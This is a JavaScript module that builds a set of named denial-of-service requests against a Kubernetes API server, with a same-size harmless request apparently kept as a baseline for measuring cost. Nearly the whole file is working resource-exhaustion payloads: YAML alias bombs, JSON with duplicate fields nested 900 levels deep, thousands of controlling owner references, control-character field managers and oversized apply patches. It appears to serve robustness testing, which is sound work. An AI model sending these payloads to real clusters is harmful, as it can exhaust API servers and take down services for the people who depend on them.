// Requests that are as expensive as possible, each at most as large as the server accepts.
const CONFIG_MAPS = "/api/v1/namespaces/default/configmaps";
const PODS = "/api/v1/namespaces/default/pods";
const DRY = "?dryRun=All";
const YAML = "application/yaml";

const times = (count, make) => Array.from({ length: Math.floor(count) }, (_, index) => make(index));
const keyed = (count, prefix, value) => Object.fromEntries(times(count, (index) => [`${prefix}${index}`, value]));
const post = (path, body, contentType) => ({ method: "POST", path, body, contentType });
const named = (metadata) => JSON.stringify({ metadata: { name: "x", ...metadata } });
const pod = (spec) => JSON.stringify({ metadata: { name: "x" }, spec });
const owner = (index) => ({ apiVersion: "v1", kind: "A", name: `n${index}`, uid: `u${index}`, controller: true });

/** The name of each attack, with its request of about `bytes` bytes. */
export const ATTACKS = {
  "bad characters of a field manager": () => ({
    ...post(`${CONFIG_MAPS}?fieldManager=${"%01".repeat(20_000)}`, named({})),
  }),
  "owners that all control": (bytes) => post(CONFIG_MAPS, named({ ownerReferences: times(bytes / 75, owner) })),
  "labels that are none": (bytes) => post(CONFIG_MAPS, named({ labels: keyed(bytes / 14, "%", "") })),
  "containers without anything": (bytes) => post(PODS, pod({ containers: times(bytes / 3, () => ({})) })),
  "duplicate and unknown fields": (bytes) => {
    const fields = times(bytes / 24, (index) => `"x${index}":1,"x${index}":1`).join();
    return post(CONFIG_MAPS + DRY, `{"metadata":{"name":"x"},${fields}}`);
  },
  "duplicate fields 900 levels deep": (bytes) => {
    const fields = times(bytes / 24, (index) => `"x${index}":1,"x${index}":1`).join();
    return post(CONFIG_MAPS + DRY, `{"metadata":{"name":"x"},"z":${'{"a":'.repeat(900)}{${fields}}${"}".repeat(900)}}`);
  },
  "an apply of many fields": (bytes) => ({
    method: "PATCH",
    path: `${CONFIG_MAPS}/x?fieldManager=a&force=true&dryRun=All`,
    body: JSON.stringify({
      apiVersion: "v1",
      kind: "ConfigMap",
      metadata: { name: "x" },
      data: keyed(bytes / 14, "k", ""),
    }),
    contentType: "application/apply-patch+yaml",
  }),
  "YAML aliases of a large list": (bytes) =>
    post(CONFIG_MAPS, `x: &a [${"{},".repeat(bytes / 3 - 200)}{}]\nz: [${"*a,".repeat(98)}*a]`, YAML),
  "YAML with an alias every three bytes": (bytes) =>
    post(CONFIG_MAPS, `x: &a 1\nz: [${"*a,".repeat(bytes / 3 - 20)}*a]`, YAML),
  "YAML of empty maps": (bytes) => post(CONFIG_MAPS, `x: [${"{},".repeat(bytes / 3 - 20)}{}]`, YAML),
};

/** A harmless body of the same size: one string in a ConfigMap. */
export function harmless(bytes) {
  const data = { text: "x".repeat(Math.max(0, bytes - 60)) };
  return post(CONFIG_MAPS + DRY, JSON.stringify({ metadata: { name: "x" }, data }));
}
